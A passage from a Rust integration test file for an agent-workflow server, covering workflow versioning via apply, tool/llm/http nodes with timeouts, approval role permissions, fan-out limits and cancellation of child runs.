        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert_eq!(
        app.get("/api/v1/workflow-runs?workflow=follow-up")
            .await
            .body["data"]
            .as_array()
            .unwrap()
            .len(),
        1
    );
}

/// `apply` takes workflows beside agents: create, then unchanged, then a new version.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn apply_creates_and_versions_workflows() {
    let app = TestApp::spawn().await;
    app.create_fake_provider().await;
    let workflow = |label: &str| {
        json!({"apiVersion": "agentry/v1", "kind": "Workflow", "metadata": {"name": "applied"},
               "spec": {"start": "ask", "nodes": {
                   "ask": {"type": "agent", "agent": "helper", "input": label, "into": "a", "next": "done"},
                   "done": {"type": "end"}}}})
    };
    let agent = json!({"apiVersion": "agentry/v1", "kind": "Agent", "metadata": {"name": "helper"},
                       "spec": {"name": "Helper", "model": "fake/echo"}});
    let plan = |body| app.post("/api/v1/apply", body);
    let first = plan(json!({"resources": [workflow("one"), agent.clone()]})).await;
    assert_eq!(first.status, 200, "{:?}", first.body);
    let actions: Vec<(String, String)> = first.body["changes"]
        .as_array()
        .or_else(|| first.body["plan"].as_array())
        .unwrap_or_else(|| panic!("{:?}", first.body))
        .iter()
        .map(|c| {
            (
                c["kind"].as_str().unwrap().into(),
                c["action"].as_str().unwrap().into(),
            )
        })
        .collect();
    assert!(
        actions.contains(&("Workflow".into(), "create".into())),
        "{actions:?}"
    );
    let again = plan(json!({"resources": [agent.clone(), workflow("one")]})).await;
    assert!(
        again.body.to_string().contains("unchanged"),
        "{:?}",
        again.body
    );
    let changed = plan(json!({"resources": [agent, workflow("two")]})).await;
    assert_eq!(changed.status, 200, "{:?}", changed.body);
    let got = app.get("/api/v1/workflows/applied").await;
    assert_eq!(got.body["latest_version"], 2);
    let id = start(&app, "applied", json!({})).await;
    assert_eq!(wait_end(&app, &id).await["status"], "completed");
}

/// `tool` and `llm` nodes, a structured `llm` answer, a node timeout routed by `on_error`, the
/// approval's assignee role, and the map fan-out limit.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tool_and_llm_nodes_timeouts_roles_and_limits() {
    let app = TestApp::spawn().await;
    app.create_fake_provider().await;
    let yaml = r#"apiVersion: agentry/v1
kind: Workflow
metadata: {name: mixed}
spec:
  start: calc
  nodes:
    calc: {type: tool, tool: calculator, args: {expression: "{{ input.a }} * 7"}, into: product, next: ask}
    ask: {type: llm, model: fake/echo, prompt: "The product is {{ product.result }}", into: said, next: slow}
    slow: {type: http, method: GET, url: "{{ input.slow_url }}", timeout_seconds: 1, on_error: recover, into: r, next: done}
    recover: {type: transform, template: "recovered from {{ error.code }}", into: note, next: done}
    done: {type: end, output: {product: "{{ product }}", said: "{{ said }}", note: "{{ note | default('') }}"}}
"#;
    assert_eq!(post_yaml(&app, yaml).await.status, 201);
    // A server that never answers in time.
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let slow_url = format!("http://{}/slow", listener.local_addr().unwrap());
    let slow = axum::Router::new().route(
        "/slow",
        axum::routing::get(|| async {
            tokio::time::sleep(Duration::from_secs(10)).await;
            "late"
        }),
    );
    tokio::spawn(async move {
        let _ = axum::serve(listener, slow).await;
    });
    let id = start(&app, "mixed", json!({"a": 6, "slow_url": slow_url})).await;
    let run = wait_end(&app, &id).await;
    assert_eq!(run["status"], "completed", "{run}");
    assert_eq!(run["state"]["product"]["result"], 42, "{run}");
    assert!(
        run["output"]["said"]
            .as_str()
            .unwrap()
            .contains("The product is 42"),
        "{run}"
    );
    assert_eq!(run["output"]["note"], "recovered from timeout");
    let calc = &run["nodes"][0];
    assert_eq!(calc["input"], json!({"expression": "6 * 7"}));

    // The approval's assignee role: a member cannot decide an admin's approval.
    let yaml = APPROVAL
        .replace("metadata: {name: refund}", "metadata: {name: admins-only}")
        .replace("assignee_role: member", "assignee_role: admin");
    assert_eq!(post_yaml(&app, &yaml).await.status, 201);
    let id = start(&app, "admins-only", json!({"amount": 1})).await;
    let approval = pending_approvals(&app, &id, 1).await.remove(0);
    let (_, member) = app.create_key("member", None).await;
    let refused = app
        .as_token(&member)
        .post(
            &format!("/api/v1/approvals/{approval}"),
            json!({"decision": "approve"}),
        )
        .await;
    assert_eq!(refused.status, 403, "{:?}", refused.body);
    let ok = app
        .post(
            &format!("/api/v1/approvals/{approval}"),
            json!({"decision": "reject"}),
        )
        .await;
    assert_eq!(ok.status, 200);
    assert_eq!(wait_end(&app, &id).await["output"]["result"], "refused");
    // An unknown role is refused when saved.
    let bad = APPROVAL
        .replace("metadata: {name: refund}", "metadata: {name: nobody}")
        .replace("assignee_role: member", "assignee_role: wizard");
    let r = post_yaml(&app, &bad).await;
    assert_eq!(r.status, 422);
    assert_eq!(
        r.body["error"]["details"]["errors"][0]["field"],
        "assignee_role"
    );

    // A map over more items than the limit fails the node with a clear code.
    let yaml = r#"apiVersion: agentry/v1
kind: Workflow
metadata: {name: huge}
spec:
  start: each
  nodes:
    each: {type: map, items: "range(20000) | list", node: one, into: all, next: done}
    one: {type: transform, jq: ".item", into: x}
    done: {type: end}
"#;
    assert_eq!(post_yaml(&app, yaml).await.status, 201);
    let id = start(&app, "huge", json!({})).await;
    let run = wait_end(&app, &id).await;
    assert_eq!(run["status"], "failed");
    assert_eq!(run["error"]["code"], "workflow_limit_exceeded", "{run}");
    assert!(
        run["error"]["message"].as_str().unwrap().contains("10000"),
        "{run}"
    );
}

/// Cancelling a workflow cancels the child runs it is waiting for.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cancelling_a_workflow_cancels_its_children() {
    let app = TestApp::spawn().await;
    app.create_fake_provider().await;
    // Several steps, so the cancellation reaches it at a step boundary.
    app.create_agent("slowpoke", "tool-loop-3+latency=1500", &["calculator"])
        .await;
    let yaml = r#"apiVersion: agentry/v1
kind: Workflow
metadata: {name: waits-for-agent}
spec:
  start: ask
  nodes:
    ask: {type: agent, agent: slowpoke, input: "hello", into: a, next: done}
    done: {type: end}
"#;
    assert_eq!(post_yaml(&app, yaml).await.status, 201);
    let id = start(&app, "waits-for-agent", json!({})).await;
    // Wait until the child exists.
    let deadline = Instant::now() + Duration::from_secs(30);
    let child = loop {
        let run = run_of(&app, &id).await;
        if let Some(c) = run["nodes"][0]["child_run_id"].as_str() {
            break c.to_string();
        }
        assert!(Instant::now() < deadline, "no child run: {run}");
        tokio::time::sleep(Duration::from_millis(50)).await;
    };
    let c = app
        .post(&format!("/api/v1/workflow-runs/{id}/cancel"), json!({}))
        .await;
    assert_eq!(c.status, 200, "{:?}", c.body);
    assert_eq!(wait_end(&app, &id).await["status"], "cancelled");
    let child_run = app.wait_run(&child, Duration::from_secs(30)).await;
    assert_eq!(child_run["status"], "cancelled", "{child_run}");
}
